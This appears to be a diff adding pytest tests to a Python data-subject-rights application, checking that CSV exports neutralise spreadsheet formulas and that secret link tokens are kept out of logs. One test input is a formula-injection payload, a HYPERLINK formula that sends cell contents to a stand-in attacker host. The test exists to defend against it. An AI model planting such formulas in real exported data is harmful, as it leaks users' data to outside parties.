@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import logging
 import os
 import socket
 import stat
@@ -15,6 +16,7 @@ from pathlib import Path
 
 import httpx2 as httpx
 import pytest
+from fastapi.testclient import TestClient
 from sqlalchemy import inspect, text, update
 from typer.testing import CliRunner
 
@@ -23,6 +25,7 @@ from pledge.cli.main import app
 from pledge.core.config import reset_settings_cache
 from pledge.core.db import make_engine
 from pledge.runtime import Runtime
+from pledge.web.app import create_app
 from tests.conftest import PASSWORD, Backend, _create_pg_database, _pg_admin_url
 
 runner = CliRunner()
@@ -181,6 +184,38 @@ def test_export_json_and_csv_and_a_clear_error_when_missing(
     assert code == 1 and "no tenant" in out
 
 
+def test_export_csv_prefixes_formula_cells_and_keeps_numbers(
+    runtime: Runtime, tenant: str, cli_env: dict[str, str]
+) -> None:
+    from pledge.subjects import service as subjects
+    from pledge.subjects.service import FieldInput
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with runtime.tenant_context(tenant) as ctx:
+        subjects.create_subject(
+            ctx,
+            [
+                FieldInput("email", "sheet@example.com"),
+                FieldInput("nickname", formula, category="user.name"),
+                FieldInput("alias", "@SUM(A1:A9)", category="user.name"),
+                FieldInput("office_line", "+44 7700 900123", category="user.contact"),
+                FieldInput("balance", "-12.5", category="user.financial"),
+            ],
+        )
+    result = runner.invoke(
+        app, ["subjects", "export", "-t", tenant, "--email", "sheet@example.com", "--format", "csv"]
+    )
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert {r["name"]: r["value"] for r in rows if r["record"] == "field"} == {
+        "email": "sheet@example.com",
+        "nickname": "'" + formula,
+        "alias": "'@SUM(A1:A9)",
+        "office_line": "+44 7700 900123",
+        "balance": "-12.5",
+    }
+
+
 def test_erase_then_export_finds_nothing(
     runtime: Runtime, tenant: str, cli_env: dict[str, str], tmp_path: Path
 ) -> None:
@@ -235,6 +270,35 @@ def test_demo_without_serving_prints_a_login_that_works(
     assert code == 0 and out2.split("password: ")[1].split()[0] != password
 
 
+# A link token shaped like the real ones ("<id hex>.<id hex>.<secret>"), its secret easy to
+# find in a log.
+LINK_SECRET = "SeCrEt_of-the-link_0123456789abcdefghijklm"
+LINK_TOKEN = f"{'1' * 32}.{'2' * 32}.{LINK_SECRET}"
+_LINK_PATHS = (
+    "/p/{slug}/requests/status/{token}",
+    "/p/{slug}/requests/verify/{token}",
+    "/p/{slug}/downloads/{token}",
+    "/u/{token}",
+)
+
+
+def test_an_unexpected_error_is_logged_without_the_link_token(
+    runtime: Runtime, tenant: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    from pledge.rights import status_links
+
+    def broken(*_: object) -> None:
+        raise RuntimeError(LINK_SECRET)
+
+    monkeypatch.setattr(status_links, "request_for_status", broken)
+    client = TestClient(create_app(runtime), raise_server_exceptions=False)
+    with caplog.at_level(logging.ERROR, logger="pledge.web"):
+        r = client.get(f"/p/{tenant}/requests/status/{LINK_TOKEN}")
+    assert r.status_code == 500
+    assert f"unexpected RuntimeError on GET /p/{tenant}/requests/status/…" in caplog.text
+    assert LINK_SECRET not in caplog.text
+
+
 def _free_port() -> int:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
@@ -267,11 +331,22 @@ def test_serve_answers_and_logs_no_query_strings(
         assert proc.poll() is None, f"pledge serve stopped (exit code {proc.returncode})"
         assert r.json()["status"] == "ok"
         httpx.get(f"http://127.0.0.1:{port}/login?next=/subjects&who=secret.person@example.com")
+        base = f"http://127.0.0.1:{port}"
+        for path in _LINK_PATHS:
+            httpx.get(base + path.format(slug=tenant, token=LINK_TOKEN))
+        httpx.post(base + f"/u/{LINK_TOKEN}")  # a one-click unsubscribe
+        httpx.get(base + f"/p/{tenant}/no-such-page/{LINK_TOKEN}")  # no route matches
     finally:
         proc.terminate()
         output, _ = proc.communicate(timeout=10)
     assert "GET /healthz 200" in output and "GET /login 200" in output
     assert "secret.person" not in output
+    # The secrets of public links stay out of the log; the route and the slug stay in it.
+    assert LINK_SECRET not in output
+    for path in _LINK_PATHS:
+        assert f"GET {path.format(slug=tenant, token='…')} " in output
+    assert "POST /u/… " in output
+    assert f"GET /p/{tenant}/no-such-page/… 404" in output
     access_lines = [line for line in output.splitlines() if "pledge.access" in line]
     assert access_lines and not any(
         "127.0.0.1" in line for line in access_lines
